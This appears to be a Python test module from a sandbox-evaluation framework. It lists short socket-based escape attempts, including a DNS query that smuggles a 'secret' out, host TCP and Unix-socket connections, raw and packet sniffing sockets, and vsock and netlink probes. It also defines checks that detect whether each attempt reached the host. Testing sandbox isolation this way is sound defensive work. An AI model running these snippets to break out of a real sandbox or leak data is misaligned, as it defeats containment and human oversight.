"""Attacks that reach the network or sockets of the host."""

from __future__ import annotations

import os
import socket
from collections.abc import Callable

from coevo_gym.sandbox import readable
from coevo_gym.sandbox.attacks.host import HostObservations, done
from coevo_gym.sandbox.attacks.payload import payloads

_ATTACKS = r"""
## connect: connect to a port of the host
socket.create_connection(('127.0.0.1', host.tcp))

## name-lookup: ask a name server, with the secret in the name
query = b"\0\7\1\0\0\1\0\0\0\0\0\0" + b"\6secret\7example\0\0\1\0\1"
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", host.udp))

## unix-socket: connect to a daemon's socket file
socket.socket(socket.AF_UNIX).connect(host.unix)

## abstract-socket: connect to a socket without a file
socket.socket(socket.AF_UNIX).connect(host.abstract)

## listen: wait for connections
socket.create_server(('127.0.0.1', 0))

## raw-socket: make a raw socket
socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)

## packet-socket: listen in on all packets
socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300)

## list-interfaces: ask the kernel about its networks
socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)

## virtual-machine-socket: talk to the machine's host
socket.socket(socket.AF_VSOCK)

## kernel-crypto-socket: make a socket of the kernel's ciphers
socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET)

## send-elsewhere: send a letter to a socket of the host, by one that was handed in
letters = socket.socket(fileno=host.letters)
any_way(lambda: letters.sendto(b"x", host.mailbox),
        lambda: letters.sendmsg([b"x"], [], 0, host.mailbox))

## connect-what-is-given: connect a socket that was handed in to one of the host
letters = socket.socket(fileno=host.letters)
letters.connect(host.mailbox)
letters.send(b"x")

## take-a-name: take a name in the host's network for a socket that was handed in
socket.socket(fileno=host.stream).bind(f'\0coevo-{os.getpid()}')

## host-interfaces: ask a socket that was handed in for the host's networks
request = bytes(16) + (1).to_bytes(4, sys.byteorder) + bytes(20)
any_way(*(lambda how=how: checked(libc.ioctl(host.stream, how, request))
          for how in (0x8910, 0x8912)))

## who-is-there: ask a socket that was handed in who made it
given = socket.socket(fileno=host.stream)
any_way(*(lambda how=how: given.getsockopt(socket.SOL_SOCKET, how, 12) for how in (17, 77)))

## set-what-is-given: set an option of a socket that was handed in: a filter, the size of its memory
given = socket.socket(fileno=host.stream)
held = ctypes.create_string_buffer(bytes([6, *bytes(7)]), 8)
order = (1).to_bytes(8, sys.byteorder) + ctypes.addressof(held).to_bytes(8, sys.byteorder)
any_way(lambda: given.setsockopt(socket.SOL_SOCKET, 26, order),
        lambda: given.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20))

## out-of-band: send a byte out of band, which can be seen but not read
socket.socket(fileno=host.stream).send(b'x', socket.MSG_OOB)

## send-a-descriptor: send a descriptor to the host
socket.send_fds(socket.socket(fileno=host.stream), [b"x"], [os.open("/dev/null", os.O_RDONLY)])
"""


def _contacted(listener: str) -> Callable[[HostObservations], bool]:
    """Return a sign that a listener of the host received something."""
    return lambda seen: seen.host.contacted(listener)


def _urgent(seen: HostObservations) -> bool:
    """Return True if an out-of-band byte arrived."""
    try:
        return bool(seen.host.handed["stream"][0].recv(1, socket.MSG_OOB | socket.MSG_DONTWAIT))
    except OSError:
        return False


def _brought(seen: HostObservations) -> bool:
    """Return True if a descriptor arrived."""
    ours, _ = seen.host.handed["stream"]
    if not readable(ours):
        return False
    _, descriptors, _, _ = socket.recv_fds(ours, 100, 10)
    for descriptor in descriptors:
        os.close(descriptor)
    return bool(descriptors)


PAYLOADS = payloads(
    _ATTACKS,
    done,
    before="import socket\n",
    after="\nsay('DONE')",
    signs={
        "connect": _contacted("tcp"),
        "name-lookup": _contacted("udp"),
        "unix-socket": _contacted("unix"),
        "abstract-socket": _contacted("abstract"),
        "send-elsewhere": _contacted("mailbox"),
        "connect-what-is-given": _contacted("mailbox"),
        "out-of-band": _urgent,
        "send-a-descriptor": _brought,
    },
)
